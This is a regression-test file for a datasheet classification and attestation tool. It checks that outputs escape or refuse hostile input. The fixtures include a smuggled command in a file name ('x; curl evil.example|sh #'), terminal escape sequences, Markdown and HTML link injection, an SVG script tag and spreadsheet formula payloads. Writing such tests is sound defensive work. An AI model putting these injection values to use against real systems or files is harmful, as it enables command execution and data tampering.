/**
 * What is signed and rendered cannot be turned against the reader (issue 9
 * §4): one regression per defect, named after what it protects.
 */
import { mkdtempSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { attestDatasheet, unsignableNameReason } from "../../src/attest/attest.js";
import { renderAttestation } from "../../src/attest/render.js";
import { verifyEnvelope, verifyEnvelopeBytes } from "../../src/attest/verify.js";
import { InvalidInputError } from "../../src/classify/datasheet.js";
import { classifyDatasheet } from "../../src/classify/classify.js";
import { parseDatasheet } from "../../src/classify/datasheet.js";
import { renderTable } from "../../src/catalogue/table.js";
import { classifyCatalogueCsv } from "../../src/catalogue/classify.js";
import { renderMap } from "../../src/plot/map.js";
import { renderExplanation } from "../../src/render/explain.js";
import { renderReportCsv } from "../../src/presume/report.js";
import { rulesAt } from "../../src/rules/rules.js";
import { runCli } from "../cli.js";
import {
  acme,
  attestExample,
  DATE,
  envelopeBytes,
  exampleDatasheet,
  ISSUED_AT,
  signEdited,
  trust,
} from "./fixtures.js";

const HOW = { envelopeFile: "attestation.json", trustFile: "trusted-designers.json" };

describe("attest refuses names a verifier's terminal or document would run", () => {
  it.each([
    ["a newline", "ACME\nX1"],
    ["ESC", "ACME\x1b[2JX1"],
    ["C1 CSI", "ACME\x9bX1"],
    ["U+FFFE", "ACME\ufffe"],
    ["U+FFFF", "ACME\uffff"],
  ])("regression: a part name with %s is refused", (_, part) => {
    expect(() => attestExample(acme, "Acme Semi", { ...exampleDatasheet(), part })).toThrow(InvalidInputError);
    expect(() => attestExample(acme, "Acme Semi", { ...exampleDatasheet(), part })).toThrow(
      /^part: holds the character U\+/,
    );
  });

  it("regression: a designer name with a control character is refused", () => {
    expect(() => attestExample(acme, "Acme\x1b]0;owned\x07Semi")).toThrow(
      /^designer: holds the character U\+001B at position 5/,
    );
  });

  it("ordinary names, with accents and punctuation, are signed", () => {
    expect(unsignableNameReason("Société Générale Semi — Ω-1 (rev. B)")).toBeUndefined();
  });
});

describe("render --format md", () => {
  const hostileInputs = {
    ...exampleDatasheet(),
    part: "X1 [click](https://evil.example) <img src=x> | *",
    datacenterRationale: "# heading\n- list [a](b)",
  };
  const attested = attestDatasheet(hostileInputs, {
    designer: "Acme Semi",
    privateKey: acme.privateKey,
    publicKey: acme.publicKey,
    rules: rulesAt(DATE),
    issuedAt: ISSUED_AT,
  });
  const verified = verifyEnvelope(attested.envelope, trust);

  it("regression: escapes Markdown in every signed string (no link, HTML or table break survives)", () => {
    expect(verified.ok).toBe(true);
    if (!verified.ok) return;
    const md = renderAttestation(verified, "md", HOW) as string;
    expect(md).not.toContain("[click](https://evil.example)");
    expect(md).not.toMatch(/(?<!\\)<img/);
    expect(md).toContain("# Datasheet attestation: X1 \\[click\\](https://evil.example) \\<img src=x\\> \\| \\*");
    expect(md).not.toMatch(/^# heading/m);
    expect(md).toContain("| units\\[0\\].rates\\[0\\].tops | 500 |");
  });

  it("regression: the verify command is shell-quoted (a bound file named x; curl evil.example|sh #)", () => {
    const bound = signEdited((statement) =>
      statement.subject.push({ name: "x; curl evil.example|sh #", digest: { sha256: "0".repeat(64) } }),
    );
    const result = verifyEnvelope(bound, trust, { boundFiles: [] });
    expect(result.ok).toBe(true);
    if (!result.ok) return;
    const md = renderAttestation(result, "md", {
      envelopeFile: "my attestation.json",
      trustFile: "trust.json",
    }) as string;
    expect(md.slice(md.indexOf("## Verify it yourself"))).toContain(
      "ic3a090 verify 'my attestation.json' --trust trust.json --bind 'x; curl evil.example|sh #'",
    );
  });

  it("regression: shows the trace recomputed by verify; what was signed but not recomputed only under a heading that says so", () => {
    const edited = signEdited((statement) => {
      statement.predicate.tool.version = "0.0.1";
      statement.predicate.results.trace[0]!.statement = "INJECTED claim";
      statement.predicate.results.warnings.push("INJECTED warning");
    });
    const result = verifyEnvelope(edited, trust);
    expect(result.ok).toBe(true);
    if (!result.ok) return;
    const md = renderAttestation(result, "md", HOW) as string;
    const [before, after] = md.split("## Signed by the designer, not recomputed by verify");
    expect(after).toBeDefined();
    expect(before).toContain("## Trace (recomputed by verify)");
    expect(before).toContain(result.recomputed.trace[0]!.statement.replace(/[[\]|<>*_`~!&#\\]/g, (c) => `\\${c}`));
    expect(before).not.toContain("INJECTED");
    expect(after).toContain("INJECTED claim");
    expect(after).toContain("INJECTED warning");
  });
});

describe("verify reads only the envelope's bytes", () => {
  const bytes = envelopeBytes(attestExample().envelope);

  it("the file attest wrote verifies", () => {
    expect(verifyEnvelopeBytes(bytes, trust).ok).toBe(true);
  });

  it("regression: a byte order mark before the envelope is refused", () => {
    const result = verifyEnvelopeBytes(Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), bytes]), trust);
    expect(result).toMatchObject({ ok: false, failure: "envelope" });
    expect(!result.ok && result.message).toMatch(/byte order mark/);
  });

  it("regression: any byte after the envelope (a CR, a space, a second newline) is refused", () => {
    for (const extra of ["\r", " ", "\n", "x"]) {
      const withExtra = Buffer.concat([bytes.subarray(0, bytes.length - 1), Buffer.from(`${extra}\n`)]);
      expect(verifyEnvelopeBytes(withExtra, trust).ok, JSON.stringify(extra)).toBe(false);
    }
  });
});

describe("text outputs escape terminal control sequences from input", () => {
  const rules = rulesAt(DATE);
  const datasheet = parseDatasheet({ ...exampleDatasheet(), part: "EVIL\x1b[2J\x1b]0;title\x07" });
  const result = classifyDatasheet(datasheet, rules);

  it("regression: --explain", () => {
    const text = renderExplanation(result);
    expect(text).not.toContain("\x1b");
    expect(text).toContain("EVIL\\x1b[2J\\x1b]0;title\\x07");
  });

  it("regression: --format table", () => {
    const table = renderTable([{ kind: "classified", row: 2, part: datasheet.part, datacenter: true, result }]);
    expect(table).not.toContain("\x1b");
    expect(table).toContain("EVIL\\x1b[2J");
  });

  it("regression: verify's report", () => {
    const dir = mkdtempSync(join(tmpdir(), "ic3a090-hostile-"));
    const attested = attestDatasheet(
      { ...exampleDatasheet(), part: "EVIL\u202eX1" },
      { designer: "Acme Semi", privateKey: acme.privateKey, publicKey: acme.publicKey, rules, issuedAt: ISSUED_AT },
    );
    writeFileSync(join(dir, "a.json"), envelopeBytes(attested.envelope));
    writeFileSync(join(dir, "acme.pub"), acme.publicPem);
    writeFileSync(
      join(dir, "trust.json"),
      JSON.stringify({ designers: [{ name: "Acme Semi", publicKey: "acme.pub" }] }),
    );
    const run = runCli(["verify", join(dir, "a.json"), "--trust", join(dir, "trust.json")]);
    expect(run.status).toBe(0);
    expect(run.stdout).not.toContain("\u202e");
    expect(run.stdout).toContain("EVIL\\u202eX1");
  });
});

describe("the SVG stays well-formed XML for any part name", () => {
  it("regression: a part name with <, &, quotes, controls, U+FFFF and a lone surrogate", () => {
    const rules = rulesAt(DATE);
    const part = `<script>"a"&'b'\x01\uffff\ud800</script>`;
    const result = classifyDatasheet(parseDatasheet({ ...exampleDatasheet(), part }), rules);
    const svg = renderMap([{ kind: "classified", row: 2, part, datacenter: true, result }], rules);
    expect(svg).not.toContain("<script>");
    // biome-ignore lint/suspicious/noControlCharactersInRegex: the test looks for control characters.
    expect(svg).not.toMatch(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\ufffe\uffff]/);
    expect(svg).not.toMatch(/[\ud800-\udbff](?![\udc00-\udfff])/);
    expect(svg).toContain("&lt;script&gt;&quot;a&quot;&amp;&apos;b&apos;");
  });
});

describe("CSV the tool writes never runs in a spreadsheet", () => {
  const rules = rulesAt("2026-09-01");
  const csv = 'part,datacenter,tops_fp8,die_area_mm2,notes\n"=HYPERLINK(""http://x"")",yes,1000,800,@SUM(A1)\n';

  it("regression: passed-through cells are counted and left alone without excelSafe, with one warning", () => {
    const warnings: string[] = [];
    const { output } = classifyCatalogueCsv(csv, { rules, warn: (message) => warnings.push(message) });
    expect(output.split("\n")[1]).toMatch(/^"=HYPERLINK/);
    expect(warnings).toEqual([
      "2 passed-through cells start like a spreadsheet formula (=, +, -, @, tab or CR); --excel-safe writes them as text",
    ]);
  });

  it("regression: with excelSafe (classify --excel-safe), passed-through cells are written as text", () => {
    const warnings: string[] = [];
    const { output } = classifyCatalogueCsv(csv, { rules, excelSafe: true, warn: (message) => warnings.push(message) });
    expect(output.split("\n")[1]).toMatch(
      /^"'=HYPERLINK\(""http:\/\/x""\)",yes,1000,800,'@SUM\(A1\),8000,10,3A090.a.1/,
    );
    expect(warnings).toEqual([]);
  });

  it("regression: the tool's own result cells are neutralised (an error quoting a formula-like cell)", () => {
    const { output } = classifyCatalogueCsv("part,tops_fp8\nX,=1+1\n", { rules });
    expect(output.split("\n")[1]).toMatch(/^X,=1\+1,,,,,,,,"row 2: tops_fp8: /);
  });

  it("regression: report --format csv neutralises names from orders", () => {
    const report = {
      quarter: { label: "2027Q1", first: "2027-01-01", last: "2027-03-31" },
      fabricator: { name: "=Fab", address: "@addr" },
      rows: [
        {
          designer: "+Designer",
          designerAddress: "-cmd",
          designerPointOfContact: "x",
          category: "c",
          products: ["=P"],
          orders: 1,
        },
      ],
      undecided: [],
    };
    const text = renderReportCsv(report as unknown as Parameters<typeof renderReportCsv>[0]);
    const row = text.split("\n")[1]!;
    expect(row).toBe("2027Q1,'=Fab,'@addr,reportable,'+Designer,'-cmd,x,c,'=P,1,");
  });

  it("CLI: classify --excel-safe and the warning without it", () => {
    const plain = runCli(["classify", "--format", "csv", "--date", "2026-09-01"], { input: csv });
    expect(plain.stderr).toContain("ic3a090: warning: 2 passed-through cells start like a spreadsheet formula");
    const safe = runCli(["classify", "--format", "csv", "--date", "2026-09-01", "--excel-safe"], { input: csv });
    expect(safe.status).toBe(0);
    expect(safe.stdout).toContain(`"'=HYPERLINK`);
    expect(safe.stderr).not.toContain("warning: 2 passed-through");
  });
});
